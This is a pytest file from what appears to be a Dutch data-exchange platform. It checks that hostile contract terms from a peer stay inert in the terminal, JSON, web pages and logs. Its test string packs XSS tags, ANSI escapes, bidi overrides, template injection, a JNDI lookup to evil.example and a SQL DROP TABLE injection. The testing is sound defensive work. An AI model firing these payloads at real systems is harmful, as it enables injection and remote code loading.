"""What a hostile peer writes into a contract is inert wherever somebody reads it: terminal, JSON, pages, logs."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
import structlog
from robust_siege import client_for, logged_in, told

from stelsel.agreements.terms import PROPERTY
from stelsel.base.errors import Fault
from stelsel.base.log import configure, logger
from stelsel.demo.cast import BOUWER, GEMEENTE, REGIE, REGISTER
from stelsel.demo.country import Country

HOSTILE = (
    "<script>alert(1)</script><img src=x onerror=alert(2)> [bold red]rich[/bold red] [link=http://evil.example]x[/link]"
    " {{ 7 * 7 }} \x1b[2J\x1b[31mrood\x1b]0;titel\x07 \x9b31m \r\noverschreven\x08\x08 \u202eomgekeerd\u202c"
    " \u2066x\u2069 \u200bonzichtbaar \ufeff \u2028regel %s %(name)s ${jndi:ldap://evil.example/a} '; DROP TABLE x; --"
)
_STEERING = {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}


def _steering(text: str, allowed: str = "\n") -> set[str]:
    """Characters that steer a terminal or the direction of text."""
    return {
        character for character in text if character not in allowed and unicodedata.category(character) in _STEERING
    }


@pytest.fixture(scope="module")
def proposed(besieged: Country) -> str:
    """A contract full of hostile strings that the register took in from a peer; gives its content hash."""
    terms = {
        "version": 1,
        "purpose": HOSTILE,
        "legal_basis": {"article": HOSTILE, "ground": "e", "uri": 'https://evil.example/%1b[31m"><script>'},
        "processing_activity": {"id": "urn:x:<script>", "name": HOSTILE, "version": "1"},
        "fields": ["naam.volledigeNaam"],
        "search_parameters": ["burgerservicenummer"],
        "retention": "P1Y",
        "confidentiality": "public",
    }
    proposal = {"peer_id": REGISTER.peer_id, "service": "personen", "days": 30, "properties": {PROPERTY: terms}}
    content_hash = str(besieged.control(GEMEENTE).post("/agreements", proposal)["content_hash"])
    besieged.until(REGISTER, content_hash, {"proposed"})
    return content_hash


def _stelsel(*arguments: str) -> subprocess.CompletedProcess[bytes]:
    command = [sys.executable, "-m", "stelsel", *arguments]
    return subprocess.run(command, capture_output=True, timeout=30, check=False)


def test_hostile_terms_are_inert_in_the_terminal(besieged: Country, proposed: str) -> None:
    node = str(besieged.folder / REGISTER.key / "node.toml")
    short = proposed.rpartition("$")[2][:16]
    for arguments in (("agreement", "show", short), ("agreement", "list")):
        shown = _stelsel(*arguments, "--node", node)
        assert shown.returncode == 0, shown.stderr
        text = (shown.stdout + shown.stderr).decode("utf-8")
        assert not _steering(text), arguments
        if "show" in arguments:
            assert "alert(1)" in text.replace("\n", "")
            assert "[bold red]" in text.replace("\n", ""), "markup of the terminal's library is shown, not followed"


def test_hostile_terms_are_escaped_in_json(besieged: Country, proposed: str) -> None:
    node = str(besieged.folder / REGISTER.key / "node.toml")
    shown = _stelsel("agreement", "show", proposed, "--node", node, "--json")
    text = shown.stdout.decode("ascii")
    assert not _steering(text)
    content = json.loads(text)["content"]
    assert content["grants"][0]["data"]["properties"][PROPERTY]["purpose"].startswith("<script>")


def test_hostile_terms_are_inert_on_the_pages_of_an_official(besieged: Country, proposed: str) -> None:
    tail = proposed.rpartition("$")[2]
    with logged_in(besieged, REGISTER, f"Medewerker van {REGISTER.name}") as browser:
        for path in ("/afspraken", f"/afspraken/{tail}"):
            page = browser.get(path, headers={"accept": "text/html"})
            assert page.status_code == 200, page.text
            assert "<script>alert" not in page.text
            assert "<img src=x" not in page.text
            assert "{{ 7" in page.text or "49" not in page.text
            assert not _steering(page.text, allowed="\n\t"), path
            assert "alert(1)" in page.text or path == "/afspraken"


def test_hostile_terms_leave_no_steering_characters_in_any_log(besieged: Country, proposed: str) -> None:
    besieged.control(REGISTER).post(f"/agreements/{proposed}/reject")
    besieged.until(GEMEENTE, proposed, {"rejected"})
    for log in besieged.folder.glob("*/*.log"):
        text = log.read_bytes().decode("utf-8")
        assert not _steering(text), log.name
        assert "overschreven\n" not in text


def test_a_hostile_description_of_a_service_is_inert_for_those_who_find_it(besieged: Country) -> None:
    control = besieged.control(GEMEENTE)
    body = {"service": "parkeerplaatsen", "description": HOSTILE[:200], "personal": False}
    row = control.post("/agreements", body)
    try:
        besieged.until(GEMEENTE, row["content_hash"], {"valid"})
        found = [one for one in told(besieged, BOUWER, "/services") if "script" in one["description"]]
        shown = _stelsel("services", "--node", str(besieged.folder / BOUWER.key / "node.toml"))
        assert shown.returncode == 0, shown.stderr
        assert not _steering(shown.stdout.decode())
        assert found, "the directory lists it"
        with client_for(besieged, REGIE, "web") as browser:
            for path in ("/", "/stelsel"):
                assert "<script>alert" not in browser.get(path, headers={"accept": "text/html"}).text
    finally:
        control.post(f"/agreements/{row['content_hash']}/revoke")


@pytest.mark.parametrize("name", ["\x1b[31m", "a/../b", "<script>", "a" * 300, "", "a\nb", "персонал"])
def test_a_service_name_that_is_not_one_is_refused_by_the_node_itself(besieged: Country, name: str) -> None:
    with pytest.raises(Fault) as refused:
        besieged.control(GEMEENTE).post("/agreements", {"peer_id": REGISTER.peer_id, "service": name, "days": 10})
    assert not _steering(refused.value.detail)


def test_an_error_with_hostile_words_in_it_cannot_pass_for_a_line_of_the_log(
    capsys: pytest.CaptureFixture[str],
) -> None:
    held = structlog.get_config()
    output = io.StringIO()
    try:
        configure()
        structlog.configure(logger_factory=structlog.PrintLoggerFactory(output), cache_logger_on_first_use=False)
        try:
            raise RuntimeError(f"{HOSTILE}\n2026-01-01T00:00:00Z [info     ] all is well")
        except RuntimeError as error:
            logger("test").error("mistake", exc_info=error, said=HOSTILE)
    finally:
        structlog.configure(**held)
    text = output.getvalue()
    assert not _steering(text)
    assert "alert(1)" in text
    assert not any(line.startswith("2026-01-01") for line in text.splitlines())


def test_a_receipt_and_a_goal_with_hostile_members_say_so_in_plain_text(besieged: Country, tmp_path: Path) -> None:
    anchors = str(besieged.folder / "trust-anchors.pem")
    files = {
        "empty": b"",
        "list": b"[]",
        "deep": b"[" * 200_000,
        "bytes": bytes(range(256)),
        "hostile": json.dumps({"format": HOSTILE, HOSTILE: HOSTILE}).encode(),
        "huge": b'{"a": "' + b"x" * 40_000_000 + b'"}',
    }
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
        refused = _stelsel("verify", str(tmp_path / name), "--trust-anchors", anchors)
        assert refused.returncode == 1, name
        assert b"Traceback" not in refused.stderr, name
        assert not _steering(refused.stderr.decode()), name
